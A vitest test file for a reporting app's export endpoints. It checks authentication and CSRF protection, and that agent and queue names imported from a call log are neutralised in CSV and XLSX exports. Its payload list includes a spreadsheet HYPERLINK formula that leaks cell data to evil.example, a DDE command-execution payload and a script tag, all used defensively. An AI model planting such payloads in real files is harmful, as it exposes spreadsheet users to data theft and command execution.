/**
 * Who may export, and the injection test's CSV and XLSX parts (issue 12 "Must show"): agent and queue
 * names imported from a call log carry spreadsheet formulas, tab- and CR-prefixed text and markup;
 * the CSV export neutralises every one of them (a leading '), the XLSX export holds them as plain
 * strings (read back with exceljs: no formula cell), and negative numbers stay numbers.
 */
import { writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BROWSER_WRITE, errorOf, type TestApp, testApp } from "./harness";
import { expectCrossSiteWritesRefused } from "./testutil/csrf";

/** Names as an attacker would import them. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=2+2",
  "\r=3+3",
  "<script>alert(1)</script>",
];

/**
 * The names as the import keeps them: it trims spaces, tabs and line breaks around every value, so
 * the tab- and CR-prefixed names arrive as "=2+2" and "=3+3" (exports.test.ts checks tab- and
 * CR-prefixed text in both writers directly).
 */
const IMPORTED = PAYLOADS.map((p) => p.trim());

/** A comma-separated Anonymous Bank call log (quoted fields), one answered call per payload as agent and queue. */
function injectedLog(): string {
  const header =
    "vru+line,call_id,customer_id,priority,type,date,vru_entry,vru_exit,vru_time,q_start,q_exit,q_time,outcome,ser_start,ser_exit,ser_time,server".split(
      ",",
    );
  const rows = PAYLOADS.map((p, i) => [
    "AA0101",
    String(100 + i),
    "0",
    "0",
    p,
    "990201",
    `${8 + i}:00:00`,
    `${8 + i}:00:10`,
    "10",
    `${8 + i}:00:10`,
    `${8 + i}:00:40`,
    "30",
    "AGENT",
    `${8 + i}:00:40`,
    `${8 + i}:05:40`,
    "300",
    p,
  ]);
  const file = join(tmpdir(), `tl-injected-${process.pid}.csv`);
  writeFileSync(file, stringify([header, ...rows], { record_delimiter: "windows", quoted: true }));
  return file;
}

let t: TestApp;
let injected: TestApp;
beforeAll(async () => {
  [t, injected] = await Promise.all([testApp(), testApp([injectedLog()])]);
});
afterAll(async () => {
  await Promise.all([t.close(), injected.close()]);
});

const Q = { from: "1999-02-01", to: "1999-02-03" };
const body = JSON.stringify(Q);

describe("report export security", () => {
  it("401s anonymous callers", async () => {
    const res = await t.app.request("/api/v1/report/calls.offered/export?format=csv", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body,
    });
    expect(await errorOf(res)).toMatchObject({ status: 401, code: "unauthorized" });
  });

  it("the dashboard (member session, Origin and CSRF header) downloads, marked private", async () => {
    const { user } = await t.addUser("member");
    const res = await t.app.request("/api/v1/report/calls.offered/export?format=xlsx", {
      method: "POST",
      headers: { "content-type": "application/json", cookie: await t.sessionCookie(user.id), ...BROWSER_WRITE },
      body,
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("cache-control")).toBe("private");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("a page of another site cannot export with a user's cookie", async () => {
    const { user } = await t.addUser("member");
    const status = await expectCrossSiteWritesRefused(t, await t.sessionCookie(user.id), () => ({
      method: "POST",
      path: "/api/v1/report/calls.offered/export?format=csv",
      body: Q,
    }));
    expect(status).toBe(200);
  });

  it("a member's key needs no Origin or CSRF header", async () => {
    const res = await t.post("/api/v1/report/calls.offered/export?format=json", Q, {
      "content-type": "application/json",
      authorization: await t.keyHeader("member"),
    });
    expect(res.status).toBe(200);
  });
});

describe("injection: imported names come out inert", () => {
  it("the import kept every payload as a name (the test has something to neutralise)", async () => {
    const res = await injected.post("/api/v1/report/calls.agents/fetch", Q);
    const labels = ((await res.json()) as { rows: { label: string }[] }).rows.map((r) => r.label);
    expect([...labels].sort()).toEqual([...IMPORTED].sort());
  });

  for (const report of ["calls.agents", "calls.by_queue"]) {
    it(`${report}: CSV neutralises every name; numbers are not touched`, async () => {
      const res = await injected.post(`/api/v1/report/${report}/export?format=csv`, Q);
      expect(res.status).toBe(200);
      const [header, ...rows] = parse(await res.text()) as string[][];
      const labels = rows.map((r) => r[0] as string).filter((l) => l !== "Total");
      expect([...labels].sort()).toEqual(IMPORTED.map((p) => (p.startsWith("<") ? p : `'${p}`)).sort());
      // The ids (anonbank:<name> / the queue itself) are text too.
      const ids = rows.map((r) => r[1] as string).filter((id) => id !== "");
      for (const id of ids) expect(id).not.toMatch(/^[=+\-@\t\r]/);
      const first = header?.indexOf(report === "calls.agents" ? "Calls answered" : "Calls offered") ?? -1;
      expect(rows.map((r) => r[first])).toEqual([...PAYLOADS.map(() => "1"), "7"]);
    });

    it(`${report}: XLSX holds every name as a plain string, no formula cell anywhere`, async () => {
      const res = await injected.post(`/api/v1/report/${report}/export?format=xlsx`, Q);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
      const names: unknown[] = [];
      for (const ws of wb.worksheets)
        ws.eachRow((row, n) => {
          row.eachCell((c) => {
            expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
            expect(c.formula).toBeUndefined();
          });
          if (ws.name === "Report" && n > 1) {
            expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
            names.push(row.getCell(1).value);
          }
        });
      expect(names.filter((n) => n !== "Total").sort()).toEqual([...IMPORTED].sort());
    });
  }

  it("a change that is negative stays a negative number in CSV (not neutralised)", async () => {
    // Calls offered 02-02..02-03 (#5 #6 #7 #8: 4) against 01-31..02-01 (#10; #1 #2 #3 #4 and
    // AA0103's #1 on 02-01: 6): change -2.
    const res = await t.post("/api/v1/report/calls.offered/export?format=csv", {
      from: "1999-02-02",
      to: "1999-02-03",
    });
    const rows = parse(await res.text()) as string[][];
    const total = rows.at(-1) as string[];
    expect(total.slice(0, 4)).toEqual(["Total", "4", "6", "-2"]);
  });
});
